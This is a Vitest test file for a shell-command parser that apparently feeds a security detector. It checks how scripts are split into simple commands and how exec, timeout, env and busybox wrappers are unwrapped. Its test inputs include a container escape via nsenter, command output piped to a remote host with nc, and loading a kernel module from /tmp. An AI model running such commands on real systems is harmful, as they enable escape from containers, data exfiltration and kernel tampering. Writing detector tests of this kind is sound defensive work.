import { describe, expect, it } from 'vitest';
import { commandsOf, commandsOfScript } from '../../../detectors/shell-commands.ts';

describe('shell commands', () => {
  it('splits a script into its simple commands', () => {
    expect(commandsOfScript('cd /tmp && nsenter -t 1 -m sh; echo $(id) | nc 1.2.3.4 80 &')).toEqual([
      ['cd', '/tmp'],
      ['nsenter', '-t', '1', '-m', 'sh'],
      ['echo'],
      ['id'],
      ['nc', '1.2.3.4', '80'],
    ]);
  });

  it('sees through exec, timeout, env assignments and busybox', () => {
    expect(commandsOfScript('FOO=1 exec -a sleep /tmp/x 3; timeout 5 busybox insmod /tmp/m.ko')).toEqual([
      ['/tmp/x', '3'],
      ['insmod', '/tmp/m.ko'],
    ]);
  });

  it('reads a script only from a shell run with -c', () => {
    expect(commandsOf({ exe: '/bin/busybox', argv: ['sh', '-c', 'mount -t proc p /x'] })).toHaveLength(2);
    expect(commandsOf({ exe: '/usr/bin/python3', argv: ['python3', '-c', 'mount -t proc'] })).toHaveLength(1);
  });
});
